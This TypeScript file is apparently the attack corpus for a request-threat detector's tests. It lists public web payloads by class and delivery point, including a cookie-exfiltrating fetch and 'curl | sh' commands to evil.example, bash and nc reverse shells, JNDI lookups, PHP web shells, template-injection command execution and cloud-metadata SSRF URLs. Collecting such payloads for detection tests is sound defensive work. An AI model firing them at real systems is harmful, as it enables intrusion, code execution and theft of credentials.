/**
 * Attack corpus: payloads assembled from public knowledge of each attack class (OWASP testing guide,
 * OWASP cheat sheets, PortSwigger Web Security Academy write-ups, PayloadsAllTheThings-style lists),
 * each tagged with its category and the place in a request it is delivered in.
 */
import type { DetectionCategory } from "../../src/ThreatDetector.js"

/** Where a payload is put: a query value, a raw query string, the path, a header, a cookie, a body. */
export type Delivery = "query" | "rawquery" | "path" | "header" | "cookie" | "json" | "jsonraw" | "form" | "text"

export interface AttackCase {
  readonly category: DetectionCategory
  readonly delivery: Delivery
  readonly payload: string
}

const cases = (category: DetectionCategory, delivery: Delivery, payloads: ReadonlyArray<string>): Array<AttackCase> =>
  payloads.map((payload) => ({ category, delivery, payload }))

export const ATTACKS: ReadonlyArray<AttackCase> = [
  // ------------------------------------------------------------------------------------------- xss
  ...cases("xss", "query", [
    "<script>alert(1)</script>",
    "\"><script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert('xss')>",
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "'-alert(1)-'",
    "\";alert(1);//",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<div style=\"width: expression(alert(1))\">",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr\u0000ipt>alert(1)</script>"
  ]),
  ...cases("xss", "json", ["<script>fetch('//evil.example/?c='+document.cookie)</script>", "<img src=1 onerror=\"alert(1)\">"]),
  ...cases("xss", "header", ["<svg onload=alert(1)>"]),
  ...cases("xss", "form", ["<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"]),

  // ------------------------------------------------------------------------------------------ sqli
  ...cases("sqli", "query", [
    "1' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    "admin'#",
    "1 UNION SELECT username, password FROM users",
    "1' UNION ALL SELECT NULL,NULL,NULL--",
    "1 UNION/**/SELECT/**/1,2,3",
    "1%27%20OR%20%271%27%3D%271",
    "1; DROP TABLE users--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)--",
    "1 AND 1=1",
    "' or ''='",
    "1' ORDER BY 3--",
    "1 AND extractvalue(1,concat(0x7e,version()))",
    "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1; EXEC xp_cmdshell('whoami')--",
    "1' AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1 OR pg_sleep(5)--",
    "'; SELECT pg_sleep(10)--",
    "1' AND BENCHMARK(5000000,MD5(1))#",
    "1 UnIoN sElEcT 1,2",
    "-1' union%0aselect 1,@@version--"
  ]),
  ...cases("sqli", "json", ["' OR 1=1 --", "x' AND 1=(SELECT COUNT(*) FROM sysobjects)--"]),
  ...cases("sqli", "cookie", ["abc' OR '1'='1"]),

  // --------------------------------------------------------------------------------- dir_traversal
  ...cases("dir_traversal", "query", [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "....//....//etc/passwd",
    "..%5c..%5cboot.ini",
    "../../../../../../var/www/html/config.php",
    "..;/..;/admin",
    "/var/www/../../etc/shadow",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
    "..%2f..%2f..%2fhome%2fuser%2f.ssh%2fid_rsa",
    "../../WEB-INF/web.xml",
    "..\\/..\\/etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%u2215..%u2215etc%u2215passwd",
    "../.env"
  ]),
  ...cases("dir_traversal", "path", ["/static/../../../../etc/passwd", "/download/..%2f..%2f..%2fetc%2fhosts", "/files/..;/manager/html"]),
  ...cases("dir_traversal", "json", ["../../../../etc/passwd", "..\\..\\..\\windows\\system32\\config\\sam"]),
  ...cases("dir_traversal", "cookie", ["../../../../tmp/sess_123"]),

  // -------------------------------------------------------------------------------- path_traversal
  ...cases("path_traversal", "query", [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/1/maps",
    "c:\\windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "c:\\boot.ini",
    "/var/log/apache2/access.log",
    "/root/.bash_history",
    "/home/admin/.ssh/id_rsa",
    "\\\\10.0.0.5\\share\\secret.txt",
    "/etc/passwd%00.jpg",
    "image.png%00.php",
    "/dev/tcp/10.0.0.1/4444",
    "/usr/local/etc/php.ini",
    "file=/etc/hosts",
    "\\\\?\\C:\\Windows\\win.ini"
  ]),
  ...cases("path_traversal", "json", ["/etc/passwd", "C:\\inetpub\\wwwroot\\web.config"]),
  ...cases("path_traversal", "form", ["/etc/group"]),

  // --------------------------------------------------------------------------------- cmd_injection
  ...cases("cmd_injection", "query", [
    "127.0.0.1; cat /etc/passwd",
    "127.0.0.1 && whoami",
    "127.0.0.1 | id",
    "`id`",
    "$(whoami)",
    "; ls -la",
    "|| ping -c 10 127.0.0.1",
    "x; curl http://evil.example/sh | sh",
    "a;wget${IFS}http://evil.example/x",
    "%0Aid",
    "test & net user",
    "& ipconfig /all",
    "; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl -s evil.example)",
    "; echo $PATH",
    "| powershell -enc SQBFAFgA",
    "; sleep 10",
    "&& cmd.exe /c dir",
    "google.com; uname -a"
  ]),
  ...cases("cmd_injection", "header", ["() { :; }; /bin/bash -c 'cat /etc/passwd'", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}"]),
  ...cases("cmd_injection", "json", ["8.8.8.8; cat /etc/passwd", "example.com && curl http://evil.example/x.sh | bash"]),

  // -------------------------------------------------------------------------------- file_inclusion
  ...cases("file_inclusion", "query", [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://input",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "expect://id",
    "zip://uploads/avatar.jpg#shell.php",
    "phar://uploads/avatar.jpg/test.txt",
    "http://evil.example/shell.txt?",
    "https://evil.example/c99.txt??",
    "file:///etc/passwd",
    "file://c:/windows/win.ini",
    "compress.zlib://file.gz",
    "glob://*.php",
    "ftp://evil.example/shell.txt?",
    "/proc/self/fd/3",
    "/var/log/nginx/access.log",
    "shell.php%00",
    "index.php%00.html",
    "php://fd/0",
    "smb://evil.example/share/payload.php",
    "http://evil.example/r57.txt"
  ]),
  ...cases("file_inclusion", "json", ["php://filter/resource=/etc/passwd"]),

  // ------------------------------------------------------------------------------------------ ldap
  ...cases("ldap", "query", [
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "admin)(|(password=*))",
    "*)(|(objectclass=*))",
    "*)(objectClass=*",
    "(|(uid=*))",
    "(&(uid=admin)(userPassword=*))",
    "*)(cn=*",
    "x)(|(cn=*)",
    "admin*)((|userpassword=*)",
    "*))%00",
    "(uid=*)",
    ")(cn=*))(|(cn=*",
    "jdoe)(|(memberOf=cn=admins,dc=example,dc=com))",
    "*)(&(objectCategory=person)",
    "admin)(!(&(1=0)",
    "(cn=*)",
    "*)(mail=*",
    "x*)(|(sAMAccountName=*)",
    "%2A%29%28uid%3D%2A"
  ]),
  ...cases("ldap", "form", ["*)(uid=*))(|(uid=*"]),

  // ------------------------------------------------------------------------------------------- xml
  ...cases("xml", "text", [
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.example/evil.dtd\"> %xxe;]>",
    "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
    "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
    "<!DOCTYPE data SYSTEM \"http://evil.example/x.dtd\"><data>1</data>",
    "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
    "<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">",
    "<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY sp SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&sp;</r>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/svg.dtd\">",
    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"expect://id\">]>",
    "<xsl:copy-of select=\"document('/etc/passwd')\"/>"
  ]),
  ...cases("xml", "query", [
    "' or '1'='1' and 'a",
    "'] | //user/*",
    "1 or 1=1]",
    "count(/child::node())",
    "<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\">",
    "%3C!DOCTYPE%20x%20%5B%3C!ENTITY%20y%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E",
    "//*[contains(name(),'pass')]",
    "string-length(//user[1]/password)",
    "x' or name()='username' or 'x'='y"
  ]),

  // ------------------------------------------------------------------------------------------ ssrf
  ...cases("ssrf", "query", [
    "http://127.0.0.1:8080/admin",
    "http://localhost/server-status",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://[::1]:22/",
    "http://0.0.0.0:6379/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stats",
    "http://evil.example@127.0.0.1/",
    "http://192.168.1.1/admin",
    "http://10.0.0.5:9200/_cat/indices",
    "http://172.16.0.10/",
    "http://127.1/",
    "http://[::ffff:127.0.0.1]/",
    "http://spoofed.localtest.me/",
    "http://100.100.100.200/latest/meta-data/",
    "ldap://127.0.0.1:389/",
    "http://169.254.169.254.nip.io/",
    "http://kubernetes.default.svc/api"
  ]),
  ...cases("ssrf", "json", ["http://169.254.169.254/computeMetadata/v1/instance/", "http://localhost:2375/containers/json"]),

  // ----------------------------------------------------------------------------------------- nosql
  ...cases("nosql", "rawquery", [
    "username[$ne]=admin&password[$ne]=x",
    "user[$gt]=&pass[$gt]=",
    "username[$regex]=.*&password[$regex]=.*",
    "login[$exists]=true",
    "id[$in][]=1&id[$in][]=2",
    "user%5B%24ne%5D=1",
    "filter[$where]=sleep(5000)",
    "q[$nin][]=x"
  ]),
  ...cases("nosql", "jsonraw", [
    "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}",
    "{\"username\":\"admin\",\"password\":{\"$gt\":\"\"}}",
    "{\"$where\":\"this.password.length > 0\"}",
    "{\"username\":{\"$regex\":\"^adm\"}}",
    "{\"$or\":[{\"a\":1},{\"b\":2}]}",
    "{\"age\":{\"$expr\":{\"$function\":{\"body\":\"function(){return true}\"}}}}",
    "{\"user\":{\"$in\":[\"admin\",\"root\"]}}"
  ]),
  ...cases("nosql", "query", [
    "' || '1'=='1",
    "'; return true; var x='",
    "admin' || 1==1//",
    "{\"$gt\": \"\"}",
    "'; sleep(5000); '",
    "this.password.match(/.*/)",
    "db.users.find()",
    "{\"$where\": \"sleep(100)\"}"
  ]),

  // ----------------------------------------------------------------------------------- file_upload
  ...cases("file_upload", "header", [
    "form-data; name=\"file\"; filename=\"shell.php\"",
    "attachment; filename=\"shell.php.jpg\"",
    "form-data; name=\"f\"; filename=\"cmd.aspx\"",
    "form-data; name=\"f\"; filename=\"shell.phtml\"",
    "form-data; name=\"f\"; filename=\"x.jsp\"",
    "form-data; name=\"f\"; filename=\".htaccess\"",
    "form-data; name=\"f\"; filename=\"shell.php%00.png\"",
    "form-data; name=\"f\"; filename=\"shell.asp;.jpg\"",
    "form-data; filename*=UTF-8''shell.php5",
    "form-data; name=\"f\"; filename=\"web.config\""
  ]),
  ...cases("file_upload", "json", [
    "shell.php",
    "avatar.php.png",
    "image.jpg.php",
    "payload.phar",
    "cmd.asp::$DATA",
    "shell.pHp7",
    ".user.ini",
    "shell.php.",
    "backdoor.cer",
    "page.shtml"
  ]),
  ...cases("file_upload", "text", ["GIF89a<?php system($_GET['c']); ?>"]),

  // -------------------------------------------------------------------------------------- template
  ...cases("template", "query", [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(java.lang.System).getenv()}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "{php}echo `id`;{/php}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
    "{{['id']|filter('system')}}",
    "@(1+2)",
    "{{lipsum.__globals__.os.popen('id').read()}}",
    "${{7*7}}",
    "<%= `ls` %>",
    "{% import os %}{{ os.system('id') }}"
  ]),
  ...cases("template", "json", ["{{cycler.__init__.__globals__.os.popen('id').read()}}"]),

  // ------------------------------------------------------------------------------------ http_split
  ...cases("http_split", "query", [
    "en%0d%0aSet-Cookie:%20admin=true",
    "x%0D%0ALocation:%20http://evil.example",
    "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
    "x\r\nSet-Cookie: session=attacker",
    "%250d%250aSet-Cookie:%20a=b",
    "%0aX-Injected:%20true",
    "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y",
    "foo%0d%0a%0d%0a<script>alert(1)</script>",
    "/%0d%0aLocation:%20//evil.example",
    "%0d%0aRefresh:%200;url=http://evil.example",
    "%0d%0aContent-Type:%20text/html",
    "%0d%0aAccess-Control-Allow-Origin:%20*",
    "x%0d%0aGET%20/admin%20HTTP/1.1"
  ]),
  ...cases("http_split", "path", [
    "/redirect%0d%0aSet-Cookie:%20a=1",
    "/%0d%0aX-Test:%20injected",
    "/page%0aLocation:%20http://evil.example",
    "/%E5%98%8D%E5%98%8ASet-Cookie:crlf=injection"
  ]),
  ...cases("http_split", "cookie", ["lang=en%0d%0aSet-Cookie:%20admin=1", "a%0d%0aX-Forwarded-For:%20127.0.0.1"]),
  ...cases("http_split", "header", ["value%0d%0aX-Admin:%20true"]),

  // -------------------------------------------------------------------------------- sensitive_file
  ...cases("sensitive_file", "path", [
    "/.env",
    "/.env.production",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.htpasswd",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/wp-config.php.bak",
    "/config.php~",
    "/backup.sql",
    "/database.yml",
    "/.DS_Store",
    "/docker-compose.yml",
    "/actuator/env",
    "/actuator/heapdump",
    "/server.key",
    "/web.config",
    "/.npmrc",
    "/storage/logs/laravel.log",
    "/index.php.swp",
    "/dump.sql.gz",
    "/terraform.tfstate"
  ]),
  ...cases("sensitive_file", "query", ["../.git/config", ".env"]),

  // ----------------------------------------------------------------------------------- cms_probing
  ...cases("cms_probing", "path", [
    "/wp-admin/",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-content/plugins/revslider/readme.txt",
    "/wp-includes/wlwmanifest.xml",
    "/wp-json/wp/v2/users",
    "/administrator/index.php",
    "/components/com_jce/jce.xml",
    "/sites/default/settings.php",
    "/core/CHANGELOG.txt",
    "/phpmyadmin/",
    "/pma/index.php",
    "/adminer.php",
    "/typo3/index.php",
    "/umbraco/login",
    "/bitrix/admin/",
    "/magento_version",
    "/manager/html",
    "/jmx-console/",
    "/crx/de/index.jsp",
    "/user/register?element_parents=account/mail/%23value",
    "/solr/admin/cores"
  ]),
  ...cases("cms_probing", "rawquery", ["option=com_users&view=registration"]),

  // ----------------------------------------------------------------------------------------- recon
  ...cases("recon", "path", [
    "/phpinfo.php",
    "/info.php",
    "/test.php",
    "/shell.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci",
    "/cgi-bin/test-cgi",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/GponForm/diag_Form",
    "/remote/fgt_lang",
    "/dana-na/auth/url_default/welcome.cgi",
    "/+CSCOE+/logon.html",
    "/owa/auth/x.js",
    "/autodiscover/autodiscover.json",
    "/_ignition/execute-solution",
    "/server-status",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/debug/pprof/",
    "/v2/_catalog",
    "/nmaplowercheck1700000000",
    "/mgmt/tm/util/bash",
    "/.git/",
    "/elmah.axd",
    "/scripts/..%c1%1c../winnt/system32/cmd.exe"
  ]),
  ...cases("recon", "query", ["sqlmap-probe", "nuclei-template-test"]),

  // ------------------------------------------------------------------------------- proto_pollution
  ...cases("proto_pollution", "rawquery", [
    "__proto__[admin]=true",
    "__proto__.isAdmin=1",
    "constructor[prototype][admin]=true",
    "a[__proto__][polluted]=1",
    "%5F%5Fproto%5F%5F[x]=1",
    "constructor.prototype.polluted=yes",
    "__pro__proto__to__[a]=1",
    "x[constructor][prototype][y]=1",
    "__proto__[toString]=x",
    "q=1&__proto__[status]=500"
  ]),
  ...cases("proto_pollution", "jsonraw", [
    "{\"__proto__\":{\"admin\":true}}",
    "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}",
    "{\"a\":{\"__proto__\":{\"polluted\":1}}}",
    "{\"user\":{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}}",
    "{\"__proto__\":[1]}",
    "{\"settings\":{\"__proto__\":{\"shell\":\"/bin/sh\"}}}",
    "{\"\\u005f_proto__\":{\"x\":1}}"
  ]),
  ...cases("proto_pollution", "query", [
    "Object.prototype.isAdmin = true",
    "obj['__proto__']['x']=1",
    "constructor['prototype']['y']",
    "__defineGetter__"
  ]),

  // -------------------------------------------------------------------------------- code_injection
  ...cases("code_injection", "query", [
    "<?php system($_GET['cmd']); ?>",
    "<?= `id` ?>",
    "eval(base64_decode('cGhwaW5mbygpOw=='))",
    "system('id')",
    "phpinfo();system('ls');",
    "__import__('os').system('id')",
    "os.system('whoami')",
    "subprocess.Popen(['ls'])",
    "require('child_process').exec('id')",
    "process.mainModule.require('child_process').execSync('id')",
    "this.constructor.constructor('return process')()",
    "Runtime.getRuntime().exec(\"calc\")",
    "java.lang.Runtime",
    "Class.forName(\"java.lang.Runtime\")",
    "eval(atob('YWxlcnQoMSk='))",
    "assert($_POST['x'])",
    "passthru('cat /etc/passwd')",
    "exec(compile('import os','x','exec'))",
    "<% eval request(\"x\") %>",
    "String.fromCharCode(97,108,101,114,116)",
    "IO.popen('id').read",
    "chr(115).chr(121)"
  ]),
  ...cases("code_injection", "json", ["__import__('subprocess').check_output('id')", "<?php echo shell_exec($_GET['c']); ?>"]),

  // ------------------------------------------------------------------------------- deserialization
  ...cases("deserialization", "query", [
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "O:24:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:33:\"_fn_close\";s:7:\"phpinfo\";}",
    "a:2:{i:0;s:3:\"foo\";i:1;O:8:\"Exploit\":0:{}}",
    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
    "aced0005737200",
    "!!python/object/apply:os.system [\"id\"]",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
    "!ruby/object:Gem::Installer",
    "tag:yaml.org,2002:python/object/apply:os.system",
    "cos\nsystem\n(S'id'\ntR.",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/a\"}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "{\"@type\":\"org.apache.xbean.propertyeditor.JndiConverter\"}",
    "System.Diagnostics.Process"
  ]),
  ...cases("deserialization", "cookie", [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
    "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0",
    "gASVJwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "Tzo4OiJzdGRDbGFzcyI6MTp7czo0OiJmaWxlIjtzOjExOiIvZXRjL3Bhc3N3ZCI7fQ=="
  ]),
  // ------------------------------------------------------------------------------ session_fixation
  ...cases("session_fixation", "rawquery", [
    "JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9",
    "PHPSESSID=attackerchosen123",
    "ASP.NET_SessionId=fixated0session1",
    "connect.sid=s%3Aattacker.signature",
    "laravel_session=eyJpdiI6ImF0dGFja2VyIn0",
    "next=%2Fhome&phpsessid=fixed",
    "CFID=1234&CFTOKEN=5678",
    "ASPSESSIONIDQQGBTQBD=KLMNOPQRSTUV",
    "next-auth.session-token=chosen"
  ]),
  ...cases("session_fixation", "path", ["/account;jsessionid=8F3A2B1C9D", "/shop/cart.jsp;jsessionid=A1B2C3D4E5F6"]),
  ...cases("session_fixation", "query", [
    "https://app.example/login?PHPSESSID=attackerchosen",
    "/login;jsessionid=0123456789ABCDEF",
    "<script>document.cookie=\"sessionid=1234; domain=.example.com\"</script>",
    "<script>document.cookie='JSESSIONID=chosen;path=/'</script>",
    "<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">",
    "<meta http-equiv=Set-Cookie content=\"PHPSESSID=fixed; path=/\">",
    "x.cookie;expires=Thu, 01 Jan 2099"
  ]),
  ...cases("session_fixation", "jsonraw", ["{\"jsessionid\": \"chosen\"}", "{\"PHPSESSID\": \"attacker\"}"]),

  // --------------------------------------------------------------------------------- orm_injection
  ...cases("orm_injection", "rawquery", [
    "password__startswith=a",
    "created_by__password__startswith=pbkdf2",
    "owner__api_key__regex=%5Esk_live",
    "reset_token__gt=m",
    "user__password__contains=%24",
    "author__password__istartswith=a",
    "filter%5Buser__password__istartswith%5D=a",
    "password_hash__endswith=%3D",
    "salt__regex=%5Ea",
    "auth_token__lt=n",
    "account__totp_secret__startswith=J",
    "users__private_key__contains=BEGIN",
    "reset_code__range=000000,500000",
    "q=1&created_by__user__password__startswith=a"
  ]),
  ...cases("orm_injection", "jsonraw", [
    "{\"password__startswith\":\"a\"}",
    "{\"created_by__password__regex\":\"^pbkdf2_sha256\"}",
    "{\"filters\":{\"owner__api_key__startswith\":\"sk\"}}",
    "{\"user__secret__iregex\":\"^a\"}",
    "{\"session_token__gte\":\"a\"}",
    "{\"where\":{\"author__password__in\":[\"a\",\"b\"]}}"
  ]),

  ...cases("deserialization", "jsonraw", [
    "{\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('ls /')}()\"}",
    "{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"}}"
  ])
]
